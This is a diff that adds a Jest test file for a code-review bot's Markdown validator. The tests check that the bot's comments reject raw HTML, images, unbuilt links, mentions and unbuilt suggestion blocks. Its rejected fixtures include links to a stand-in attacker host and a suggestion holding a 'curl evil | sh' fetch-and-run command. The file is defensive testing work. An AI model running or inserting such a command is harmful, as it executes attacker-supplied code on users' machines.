@@ -1,0 +1,65 @@
+import { describe, expect, it } from '@jest/globals';
+import { markdownProblems, plainTextBody, verifiedMarkdown } from '../../src/output/markdown-check.js';
+
+const BUILT = { links: ['https://github.example/acme/widgets/blob/abc123/', 'https://github.example/acme/widgets/actions/runs/42'] };
+const MARKER = '<!-- keybug:review:v2 eyJoZWFkIjoiYWJjIn0 -->';
+
+describe('markdownProblems', () => {
+  it("passes keybug's own Markdown: small print, collapsible sections, tables, its links, its marker on the last line", () => {
+    const body = [
+      '### keybug review of `abc1234`',
+      '',
+      '| file | lines |',
+      '| --- | --- |',
+      '| [`src/a.c:3`](https://github.example/acme/widgets/blob/abc123/src/a.c#L3) | +1 |',
+      '',
+      '<details>',
+      '<summary>Files and hunks (2 files)</summary>',
+      '',
+      '- `@mention-in-code` and @\u200Dneutralized',
+      '',
+      '</details>',
+      '',
+      '<sub>Scores: [job summary](https://github.example/acme/widgets/actions/runs/42).</sub>',
+      MARKER,
+    ].join('\n');
+    expect(markdownProblems(body, BUILT)).toEqual([]);
+  });
+
+  it.each([
+    ['<img src="https://evil.example/p.png">', 'raw HTML'],
+    ['text\n\n<details><summary>x</summary> hidden', 'raw HTML'],
+    ['text\n\n<!-- hidden\nthe rest', 'raw HTML'],
+    ['![p](https://github.example/acme/widgets/blob/abc123/p.png)', 'an image'],
+    ['see [docs](https://evil.example/docs)', 'a link keybug did not build'],
+    ['see https://evil.example/x or www.evil.example', 'a link keybug did not build'],
+    ['mail me at a@evil.example', 'a link keybug did not build'],
+    ['[x](/attacker/repo/releases)', 'a link keybug did not build'],
+    ['[x](https://github.example/acme/widgets/actions/runs/421)', 'a link keybug did not build'],
+    ['[x][1]\n\n[1]: https://evil.example', 'a reference'],
+    ['cc @octo-org/everyone', 'a mention (@octo-org/everyone)'],
+    ['cc &#64;octocat', 'a mention (@octocat)'],
+    ['```suggestion\nsystem("curl evil | sh");\n```', 'a suggestion keybug did not build'],
+    [`${MARKER}\nmore text`, 'raw HTML'],
+  ])('refuses %j', (body, problem) => {
+    expect(markdownProblems(body, BUILT).join('; ')).toContain(problem);
+  });
+
+  it('accepts a suggestion keybug built, and only that one', () => {
+    const body = '```suggestion\n  for (i = 0; i < n; i++) x();\n```';
+    expect(markdownProblems(body, { ...BUILT, suggestions: ['  for (i = 0; i < n; i++) x();'] })).toEqual([]);
+    expect(markdownProblems(body, { ...BUILT, suggestions: ['other'] })).toEqual(['a suggestion keybug did not build']);
+  });
+});
+
+describe('a body that fails', () => {
+  it('is plain text in a fence no line of it can close, saying why, keeping the marker last', () => {
+    const body = `Ping @org/everyone <img src=x>\n\`\`\`\`\nstill\n${MARKER}`;
+    const { text, problems } = verifiedMarkdown(body, BUILT, 65_536);
+    expect(problems.length).toBeGreaterThan(0);
+    expect(text.split('\n').at(-1)).toBe(MARKER);
+    expect(text).toContain('It is shown as plain text.');
+    expect(markdownProblems(text, BUILT)).toEqual([]);
+    expect(plainTextBody('x'.repeat(100), ['raw HTML'], 300).length).toBeLessThanOrEqual(300);
+  });
+});
